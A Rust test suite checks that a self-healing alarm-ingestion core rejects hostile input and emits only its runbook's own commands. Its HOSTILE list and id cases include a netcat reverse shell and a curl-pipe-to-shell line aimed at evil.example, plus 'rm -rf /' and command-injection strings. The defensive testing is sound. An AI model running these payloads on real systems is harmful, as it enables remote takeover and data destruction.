//! Hostile input at the edge (issue 10): whatever an alarm source sends — bodies at and over the
//! SQS size limit, deeply nested JSON, invalid UTF-8, duplicate keys, shell metacharacters, Slack
//! mention syntax, ANSI escapes, malformed instance ids, timestamps far in the future — ingestion
//! never panics, never accepts a malformed instance id, and `decide`/`plan` only ever hand out the
//! runbook's own command lines.

use proptest::prelude::*;
use selfheal_core::ingest::MAX_BODY_BYTES;
use selfheal_core::plan::plan;
use selfheal_core::runbook::{load, LoadOptions, RunbookSource};
use selfheal_core::{decide, parse_body, parse_document, Action, Alert, InstanceId, RunbookMap};

const GOOD: &str = "i-0123abcd";

/// Text an attacker would like to see reach a shell, a chat channel or a terminal.
const HOSTILE: &[&str] = &[
    "$(reboot)",
    "`reboot`",
    "; rm -rf / #",
    "| nc evil.example 4444 -e /bin/sh",
    "&& curl -s evil.example/x | sh",
    "' \" \\ ${IFS}",
    "a\nreboot",
    "a\r\nb\u{0}c",
    "<!channel>",
    "<!here|here> <!everyone> @channel @here",
    "<https://evil.example|click me>",
    "*bold* _it_ ~st~ `code` ```block```",
    "\u{1b}[31mred\u{1b}[0m\u{1b}[2J",
    "\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}",
    "\u{202e}gnp.exe",
    "%s%n%x {{7*7}} ../../etc/passwd",
];

/// Everything that is not `i-` + 8 or 17 lowercase hex digits.
const BAD_IDS: &[&str] = &[
    "",
    "i-",
    "i-0123ABCD",
    "I-0123abcd",
    "i-0123abc",
    "i-0123abcde",
    "i-0c51f9f1213e6315",
    "i-0c51f9f1213e631599",
    "i-0123abcd ",
    " i-0123abcd",
    "i-0123abcd\n",
    "i-0123abcd\u{0}",
    "i-\u{ff10}\u{ff11}\u{ff12}\u{ff13}abcd",
    "i-0123abcd;reboot",
    "i-0123abcd,i-89abcdef",
    "i-$(reboot)",
    "mi-0123456789abcdef0",
    "arn:aws:ec2:us-east-1:123456789012:instance/i-0123abcd",
    "i-0123abcd/../",
    "*",
];

fn map() -> RunbookMap {
    load(
        &[RunbookSource {
            name: "hostile.json",
            text: r#"{
              "api:nginx_down": {"precheck": ["! pgrep -x nginx"], "commands": ["systemctl restart nginx"], "verify": ["true"]},
              "api:*": {"commands": ["systemctl restart api"]},
              "*:*": {"commands": ["logger selfheal-catch-all"]}
            }"#,
        }],
        &LoadOptions::default(),
    )
    .expect("valid runbooks")
    .0
}

fn runbook_lines(m: &RunbookMap) -> Vec<String> {
    let mut all = Vec::new();
    for (role, alert) in [("api", "nginx_down"), ("api", "x"), ("x", "x")] {
        if let Some((_, e)) = m.lookup(role, alert) {
            all.extend(
                e.precheck
                    .iter()
                    .chain(&e.commands)
                    .chain(&e.verify)
                    .cloned(),
            );
        }
    }
    all
}

fn cw(alarm: &str, instance: &str, time: &str) -> String {
    serde_json::json!({
        "AlarmName": alarm,
        "AWSAccountId": "123456789012",
        "NewStateValue": "ALARM",
        "NewStateReason": "Threshold Crossed",
        "StateChangeTime": time,
        "Region": "US East (N. Virginia)",
        "AlarmArn": format!("arn:aws:cloudwatch:us-east-1:123456789012:alarm:{alarm}"),
        "Trigger": {"Dimensions": [{"name": "InstanceId", "value": instance}]}
    })
    .to_string()
}

fn envelope(message: &str) -> String {
    serde_json::json!({"Type": "Notification", "MessageId": "sns-1", "Message": message})
        .to_string()
}

fn eventbridge(alarm: &str, dimensions: serde_json::Value, timestamp: &str) -> String {
    serde_json::json!({
        "detail-type": "CloudWatch Alarm State Change",
        "source": "aws.cloudwatch",
        "account": "123456789012",
        "region": "us-east-1",
        "resources": [format!("arn:aws:cloudwatch:us-east-1:123456789012:alarm:{alarm}")],
        "detail": {
            "alarmName": alarm,
            "state": {"value": "ALARM", "reason": "r", "timestamp": timestamp},
            "configuration": {"metrics": [{"metricStat": {"metric": {"dimensions": dimensions}}}]}
        }
    })
    .to_string()
}

fn generic(alert: &str, role: &str, instance: &str) -> String {
    serde_json::json!({"alert": alert, "role": role, "instance_id": instance}).to_string()
}

/// Every shape an instance id can arrive in.
fn bodies_naming(instance: &str) -> Vec<String> {
    let math = serde_json::json!({
        "AlarmName": "api:nginx_down", "NewStateValue": "ALARM", "StateChangeTime": "t",
        "Trigger": {"Metrics": [{"MetricStat": {"Metric": {"Dimensions": [{"name": "InstanceId", "value": instance}]}}}]}
    })
    .to_string();
    let action = serde_json::json!({
        "source": "aws.cloudwatch", "alarmArn": "arn:aws:cloudwatch:us-east-1:1:alarm:api:nginx_down",
        "alarmData": {"alarmName": "api:nginx_down", "state": {"value": "ALARM", "timestamp": "t"},
            "configuration": {"metrics": [{"metricStat": {"metric": {"dimensions": {"InstanceId": instance}}}}]}}
    })
    .to_string();
    vec![
        cw("api:nginx_down", instance, "t"),
        envelope(&cw("api:nginx_down", instance, "t")),
        math,
        eventbridge(
            "api:nginx_down",
            serde_json::json!({ "InstanceId": instance }),
            "t",
        ),
        action,
        generic("nginx_down", "api", instance),
        serde_json::json!({"alert": "nginx_down", "role": "api", "instance_ids": [instance]})
            .to_string(),
        serde_json::json!({"alert": "nginx_down", "role": "api", "instance_ids": [GOOD, instance]})
            .to_string(),
    ]
}

fn is_valid_id(s: &str) -> bool {
    s.strip_prefix("i-").is_some_and(|h| {
        (h.len() == 8 || h.len() == 17)
            && h.bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

/// What may ever leave the core for one alert: checks the invariants shared by every test.
fn check_safe(body: &str, m: &RunbookMap, lines: &[String]) -> Option<Alert> {
    let r = parse_body(body, Some("m-1"));
    match r.item {
        Ok(alert) => {
            assert!(
                alert.instance_ids.iter().all(|i| is_valid_id(i.as_str())),
                "a malformed instance id was accepted: {:?}",
                alert.instance_ids
            );
            if let Some(role) = &alert.role {
                assert!(
                    role.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-')),
                    "role {role:?} taken from the alert is not a valid name"
                );
            }
            for looked_up in [None, Some("api"), Some("x")] {
                let d = decide(&alert, m, looked_up);
                for c in d.commands() {
                    assert!(lines.contains(c), "{c:?} is not a runbook line");
                }
                if d.action.carries_commands() {
                    assert_eq!(
                        alert.instance_ids.len(),
                        1,
                        "commands for {} instances",
                        alert.instance_ids.len()
                    );
                }
            }
            Some(alert)
        }
        Err(bad) => {
            assert!(!bad.reason.is_empty());
            assert!(
                !bad.reason.contains('\u{1b}') && !bad.reason.contains('\n') && !bad.reason.contains('\r'),
                "the reason (stored in history, shown in chat) carries raw control characters: {:?}",
                bad.reason
            );
            assert!(
                bad.reason.chars().count() < 2_000,
                "reason of {} chars",
                bad.reason.chars().count()
            );
            None
        }
    }
}

/// Parsing runs on tokio worker threads (2 MiB stacks): prove the hostile bodies fit in one.
fn on_small_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(f)
        .expect("thread")
        .join()
        .expect("no panic, no stack overflow")
}

fn pad_to(total: usize, build: impl Fn(&str) -> String) -> String {
    let base = build("").len();
    assert!(total >= base);
    let body = build(&"x".repeat(total - base));
    assert_eq!(body.len(), total);
    body
}

#[test]
fn bodies_at_the_256_kib_limit_are_read_and_one_byte_more_is_invalid() {
    let m = map();
    let lines = runbook_lines(&m);
    let generic_padded = |pad: &str| {
        serde_json::json!({"alert": "nginx_down", "role": "api", "instance_id": GOOD, "description": pad}).to_string()
    };
    let cw_padded = |pad: &str| {
        serde_json::json!({
            "AlarmName": "api:nginx_down", "NewStateValue": "ALARM", "NewStateReason": pad, "StateChangeTime": "t",
            "Trigger": {"Dimensions": [{"name": "InstanceId", "value": GOOD}]}
        })
        .to_string()
    };
    for build in [&generic_padded as &dyn Fn(&str) -> String, &cw_padded] {
        let at_limit = pad_to(MAX_BODY_BYTES, build);
        let alert = check_safe(&at_limit, &m, &lines).expect("a body of exactly 256 KiB is read");
        assert_eq!(alert.instance_ids[0].as_str(), GOOD);
        let over = pad_to(MAX_BODY_BYTES + 1, build);
        assert!(
            check_safe(&over, &m, &lines).is_none(),
            "one byte over the limit is invalid"
        );
        let r = parse_body(&over, None).item.expect_err("invalid");
        assert!(r.reason.contains("larger than"), "{}", r.reason);
        // Far over (what a direct Lambda invocation could carry): still a clean invalid.
        let huge = pad_to(MAX_BODY_BYTES * 8, build);
        assert!(check_safe(&huge, &m, &lines).is_none());
    }
    // Multi-byte characters around the limit: no slicing inside a character anywhere.
    let multibyte = |pad: &str| {
        serde_json::json!({"alert": "nginx_down", "role": "api", "instance_id": GOOD, "description": pad.replace('x', "é")}).to_string()
    };
    for n in [
        MAX_BODY_BYTES / 2 - 40,
        MAX_BODY_BYTES / 2 - 39,
        MAX_BODY_BYTES / 2,
    ] {
        let body = multibyte(&"x".repeat(n));
        let _ = check_safe(&body, &m, &lines);
    }
    // An SNS envelope over the limit is refused as a whole, whatever its Message holds.
    let inner = pad_to(MAX_BODY_BYTES - 20, generic_padded);
    let wrapped = envelope(&inner);
    assert!(wrapped.len() > MAX_BODY_BYTES);
    assert!(check_safe(&wrapped, &m, &lines).is_none());
    // And a whole document of them (`selfheal plan`) plans without panicking.
    let doc = serde_json::json!({"Records": [{"messageId": "a", "body": pad_to(MAX_BODY_BYTES + 1, generic_padded)},
                                             {"messageId": "b", "body": generic("nginx_down", "api", GOOD)}]})
    .to_string();
    let p = plan(&parse_document(&doc), &m, None);
    assert_eq!(p.alerts.len(), 2);
    assert_eq!(p.alerts[0].action, Action::Invalid);
    assert_eq!(p.alerts[1].action, Action::Remediate);
}

#[test]
fn deeply_nested_json_is_invalid_without_exhausting_the_stack() {
    let results = on_small_stack(|| {
        let m = map();
        let lines = runbook_lines(&m);
        let mut bodies = vec![
            "[".repeat(200_000),
            "{\"a\":".repeat(100_000),
            format!("{{\"alert\":\"nginx_down\",\"role\":\"api\",\"instance_id\":\"{GOOD}\",\"junk\":{}}}", "[".repeat(100_000)),
            // `id` is read as a JSON value: serde_json's recursion limit (128) refuses this.
            format!(
                "{{\"id\":{}1{},\"alert\":\"nginx_down\",\"role\":\"api\",\"instance_id\":\"{GOOD}\"}}",
                "[".repeat(5_000),
                "]".repeat(5_000)
            ),
            // So are EventBridge dimension values.
            eventbridge("api:nginx_down", serde_json::json!({}), "t")
                .replace(r#""dimensions":{}"#, &format!(r#""dimensions":{{"InstanceId":{}1{}}}"#, "[".repeat(5_000), "]".repeat(5_000))),
            format!("{{\"AlarmName\":\"api:x\",\"NewStateValue\":\"ALARM\",\"Trigger\":{}}}", "{\"Dimensions\":".repeat(50_000)),
        ];
        // SNS envelopes inside envelopes (escaping doubles the size per level: 10 deep).
        let mut nested = generic("nginx_down", "api", GOOD);
        for _ in 0..10 {
            nested = envelope(&nested);
        }
        bodies.push(nested);
        // Records inside a record body.
        bodies.push(
            serde_json::json!({"Records": [{"body": generic("nginx_down", "api", GOOD)}]})
                .to_string(),
        );
        let mut outcomes = Vec::new();
        for b in &bodies {
            outcomes.push(check_safe(b, &m, &lines).is_some());
            let _ = plan(&parse_document(b), &m, Some("api"));
        }
        // Well-formed nesting in a field nobody reads is skipped without recursion (serde_json
        // ignores values iteratively), so even 100 000 levels cost no stack: tolerated.
        let ignored = format!(
            "{{\"alert\":\"nginx_down\",\"role\":\"api\",\"instance_id\":\"{GOOD}\",\"junk\":{}1{}}}",
            "[".repeat(100_000),
            "]".repeat(100_000)
        );
        (outcomes, check_safe(&ignored, &m, &lines).is_some())
    });
    let (outcomes, ignored_ok) = results;
    assert!(
        outcomes.iter().all(|ok| !ok),
        "deep nesting was accepted: {outcomes:?}"
    );
    assert!(ignored_ok, "deep nesting in an ignored field is skipped");
}

#[test]
fn invalid_utf8_read_lossily_never_yields_a_role_an_instance_or_a_panic() {
    let m = map();
    let lines = runbook_lines(&m);
    let raw: Vec<Vec<u8>> = vec![
        b"{\"AlarmName\":\"api:nginx\xff\xfe_down\",\"NewStateValue\":\"ALARM\",\"Trigger\":{\"Dimensions\":[{\"name\":\"InstanceId\",\"value\":\"i-0123abcd\"}]}}".to_vec(),
        b"{\"AlarmName\":\"ap\xc3i:nginx_down\",\"NewStateValue\":\"ALARM\",\"Trigger\":{\"Dimensions\":[{\"name\":\"InstanceId\",\"value\":\"i-0123abcd\"}]}}".to_vec(),
        b"{\"alert\":\"nginx_down\",\"role\":\"api\",\"instance_id\":\"i-0123ab\xed\xa0\x80cd\"}".to_vec(),
        b"{\"alert\":\"nginx_down\xc0\xaf\",\"role\":\"api\",\"instance_id\":\"i-0123abcd\"}".to_vec(),
        b"{\"alert\":\"nginx_down\",\"role\":\"a\xf0\x9f\x98pi\",\"instance_id\":\"i-0123abcd\"}".to_vec(),
        b"{\"Type\":\"Notification\",\"Message\":\"\xff\xff\xff\"}".to_vec(),
        b"\xef\xbb\xbf{\"alert\":\"nginx_down\",\"role\":\"api\",\"instance_id\":\"i-0123abcd\"}".to_vec(),
        b"{\"alert\"\xff:\"nginx_down\"}".to_vec(),
        vec![0xff; 4096],
    ];
    for bytes in raw {
        let body = String::from_utf8_lossy(&bytes).into_owned();
        if let Some(alert) = check_safe(&body, &m, &lines) {
            assert!(
                alert.role.is_none(),
                "a role came out of a name with replacement characters: {:?}",
                alert.role
            );
            assert!(!alert.alert.is_empty());
        }
    }
    // Generic alerts check their names: a replacement character makes them invalid.
    let lossy = String::from_utf8_lossy(
        b"{\"alert\":\"nginx\xffdown\",\"role\":\"api\",\"instance_id\":\"i-0123abcd\"}",
    )
    .into_owned();
    assert!(parse_body(&lossy, None).item.is_err());
}

#[test]
fn duplicate_keys_are_never_resolved_by_guessing() {
    let m = map();
    let lines = runbook_lines(&m);
    let dim = |v: &str| format!(r#"{{"name":"InstanceId","value":"{v}"}}"#);
    let ambiguous = [
        // The alert's own fields twice: serde refuses the struct.
        format!(r#"{{"alert":"nginx_down","alert":"other","role":"api","instance_id":"{GOOD}"}}"#),
        format!(r#"{{"alert":"nginx_down","role":"api","role":"db","instance_id":"{GOOD}"}}"#),
        format!(
            r#"{{"alert":"nginx_down","role":"api","instance_id":"{GOOD}","instance_id":"i-89abcdef"}}"#
        ),
        format!(
            r#"{{"alert":"nginx_down","role":"api","instance_id":"{GOOD}","state":"OK","state":"ALARM"}}"#
        ),
        format!(
            r#"{{"AlarmName":"api:nginx_down","NewStateValue":"OK","NewStateValue":"ALARM","Trigger":{{"Dimensions":[{}]}}}}"#,
            dim(GOOD)
        ),
        format!(
            r#"{{"AlarmName":"api:nginx_down","AlarmName":"db:x","NewStateValue":"ALARM","Trigger":{{"Dimensions":[{}]}}}}"#,
            dim(GOOD)
        ),
        format!(
            r#"{{"AlarmName":"api:nginx_down","NewStateValue":"ALARM","Trigger":{{"Dimensions":[{{"name":"InstanceId","value":"{GOOD}","Value":"i-89abcdef"}}]}}}}"#
        ),
        r#"{"Type":"Notification","Message":"{}","Message":"{}"}"#.to_owned(),
        format!(
            r#"{{"detail-type":"CloudWatch Alarm State Change","detail":{{"alarmName":"api:nginx_down","state":{{"value":"OK","value":"ALARM"}},"configuration":{{"metrics":[{{"metricStat":{{"metric":{{"dimensions":{{"InstanceId":"{GOOD}"}}}}}}}}]}}}}}}"#
        ),
    ];
    for body in &ambiguous {
        assert!(
            check_safe(body, &m, &lines).is_none(),
            "ambiguous body accepted: {body}"
        );
    }
    // Two InstanceId dimensions naming different instances: two instances, never one picked.
    let two = format!(
        r#"{{"AlarmName":"api:nginx_down","NewStateValue":"ALARM","Trigger":{{"Dimensions":[{},{}]}}}}"#,
        dim(GOOD),
        dim("i-89abcdef")
    );
    let a = check_safe(&two, &m, &lines).expect("readable");
    assert_eq!(a.instance_ids.len(), 2);
    assert_eq!(
        decide(&a, &m, None).action,
        Action::Unresolved,
        "never fans out"
    );
    // The same instance twice is one instance.
    let same = format!(
        r#"{{"AlarmName":"api:nginx_down","NewStateValue":"ALARM","Trigger":{{"Dimensions":[{},{}]}}}}"#,
        dim(GOOD),
        dim(GOOD)
    );
    assert_eq!(
        check_safe(&same, &m, &lines)
            .expect("readable")
            .instance_ids
            .len(),
        1
    );
    // EventBridge dimensions are a JSON object: a repeated "InstanceId" key is read as one
    // instance (the last one, as serde_json does for maps). Never two, never a fan-out. Noted in
    // the hardening report: CloudWatch never sends this, and a sender who can publish can name
    // any instance directly anyway.
    let dup_map = eventbridge("api:nginx_down", serde_json::json!({}), "t").replace(
        r#""dimensions":{}"#,
        &format!(r#""dimensions":{{"InstanceId":"{GOOD}","InstanceId":"i-89abcdef"}}"#),
    );
    assert!(dup_map.contains("i-89abcdef"));
    if let Some(a) = check_safe(&dup_map, &m, &lines) {
        assert_eq!(a.instance_ids.len(), 1);
    }
}

#[test]
fn shell_chat_and_terminal_syntax_in_names_and_values_never_becomes_a_command() {
    let m = map();
    let lines = runbook_lines(&m);
    for h in HOSTILE {
        let names = [
            format!("api:{h}"),
            h.to_string(),
            format!("{h}:nginx_down"),
            format!("api:nginx_down:{h}"),
        ];
        for name in names.iter().filter(|n| !n.is_empty() && n.len() <= 255) {
            for body in [
                cw(name, GOOD, "t"),
                envelope(&cw(name, GOOD, h)),
                eventbridge(name, serde_json::json!({ "InstanceId": GOOD }), h),
                generic(name, "api", GOOD),
                generic("nginx_down", name, GOOD),
            ] {
                if let Some(alert) = check_safe(&body, &m, &lines) {
                    // Whatever matched (often a wildcard entry), only runbook lines come out.
                    let d = decide(&alert, &m, Some("api"));
                    for c in d.commands() {
                        assert!(!c.contains(h), "alert text {h:?} reached a command");
                    }
                    if alert.role.as_deref() == Some("api") && alert.alert == "nginx_down" {
                        assert_eq!(d.commands(), ["systemctl restart nginx".to_owned()]);
                    }
                }
            }
        }
        // As a dimension value the text is an invalid instance id, in every shape.
        for body in bodies_naming(h) {
            assert!(
                check_safe(&body, &m, &lines).is_none(),
                "{h:?} accepted as an instance id"
            );
        }
        // The offline plan shows it only as data, with no commands for invalid records.
        let p = plan(&parse_document(&generic(h, "api", GOOD)), &m, None);
        assert!(p
            .alerts
            .iter()
            .all(|a| a.action != Action::Invalid || a.commands.is_empty()));
    }
}

#[test]
fn instance_ids_that_are_not_i_and_8_or_17_hex_are_invalid_in_every_shape() {
    let m = map();
    let lines = runbook_lines(&m);
    for bad in BAD_IDS {
        assert!(InstanceId::parse(bad).is_err(), "{bad:?}");
        for body in bodies_naming(bad) {
            assert!(
                check_safe(&body, &m, &lines).is_none(),
                "{bad:?} accepted in {body}"
            );
            let p = plan(&parse_document(&body), &m, Some("api"));
            assert!(p
                .alerts
                .iter()
                .all(|a| a.commands.is_empty() && a.instance_ids.is_empty()));
        }
    }
    // Non-string instance ids in EventBridge's dimension map.
    for v in [
        serde_json::json!(123_456),
        serde_json::json!(null),
        serde_json::json!({"i": GOOD}),
        serde_json::json!([GOOD]),
    ] {
        let body = eventbridge(
            "api:nginx_down",
            serde_json::json!({ "InstanceId": v }),
            "t",
        );
        assert!(check_safe(&body, &m, &lines).is_none(), "{v} accepted");
    }
    // The two valid lengths are accepted, as a control.
    for good in [GOOD, "i-0c51f9f1213e63159"] {
        for body in bodies_naming(good).iter().take(7) {
            assert!(
                check_safe(body, &m, &lines).is_some(),
                "{good} refused in {body}"
            );
        }
    }
}

#[test]
fn timestamps_in_the_future_are_opaque_and_change_nothing_but_the_identity() {
    let m = map();
    let lines = runbook_lines(&m);
    let now = cw("api:nginx_down", GOOD, "2026-11-23T03:03:12.214+0000");
    let base = check_safe(&now, &m, &lines).expect("readable");
    let base_decision = decide(&base, &m, Some("api"));
    assert_eq!(base_decision.action, Action::Remediate);
    let mut identities = std::collections::HashSet::new();
    identities.insert(base.identity.clone());
    for t in [
        "2999-01-01T00:00:00.000+0000",
        "9999-12-31T23:59:59.999+0000",
        "+275760-09-13T00:00:00Z",
        "99999999999999999999",
        "tomorrow",
        "",
    ] {
        for body in [
            cw("api:nginx_down", GOOD, t),
            eventbridge(
                "api:nginx_down",
                serde_json::json!({ "InstanceId": GOOD }),
                t,
            ),
        ] {
            let a = check_safe(&body, &m, &lines)
                .expect("a future timestamp does not make the alert invalid");
            let d = decide(&a, &m, Some("api"));
            assert_eq!(d.action, base_decision.action);
            assert_eq!(d.commands(), base_decision.commands());
            identities.insert(a.identity.clone());
        }
    }
    // Every distinct time is a distinct transition (the SNS and EventBridge copies of one share it).
    assert!(identities.len() >= 6, "{identities:?}");
}

fn hostile_text() -> impl Strategy<Value = String> {
    let pieces = prop_oneof![
        Just("$(".to_owned()),
        Just("`".to_owned()),
        Just(";".to_owned()),
        Just("|".to_owned()),
        Just("&&".to_owned()),
        Just("\n".to_owned()),
        Just("\u{1b}[".to_owned()),
        Just("<!channel>".to_owned()),
        Just("<http://e|x>".to_owned()),
        Just("*".to_owned()),
        Just(":".to_owned()),
        Just("\"".to_owned()),
        Just("\\".to_owned()),
        Just("i-".to_owned()),
        "[a-f0-9]{1,17}",
        "[A-Za-z_.-]{1,8}",
        any::<char>().prop_map(String::from),
    ];
    proptest::collection::vec(pieces, 0..12).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2048, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn hostile_names_values_and_times_only_ever_yield_runbook_lines(
        name in hostile_text(),
        value in hostile_text(),
        time in hostile_text(),
        shape in 0usize..4,
    ) {
        let m = map();
        let lines = runbook_lines(&m);
        let body = match shape {
            0 => cw(&name, &value, &time),
            1 => envelope(&cw(&name, &value, &time)),
            2 => eventbridge(&name, serde_json::json!({ "InstanceId": value }), &time),
            _ => generic(&name, "api", &value),
        };
        if let Some(a) = check_safe(&body, &m, &lines) {
            prop_assert!(is_valid_id(&value), "instance {value:?} accepted");
            prop_assert_eq!(a.instance_ids[0].as_str(), value.as_str());
        }
    }

    #[test]
    fn mutated_valid_messages_read_lossily_never_panic(
        flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8),
    ) {
        let m = map();
        let lines = runbook_lines(&m);
        let mut bytes = envelope(&cw("api:nginx_down", GOOD, "t")).into_bytes();
        for (i, b) in flips {
            let at = i.index(bytes.len());
            bytes[at] = b;
        }
        let body = String::from_utf8_lossy(&bytes).into_owned();
        let _ = check_safe(&body, &m, &lines);
    }
}
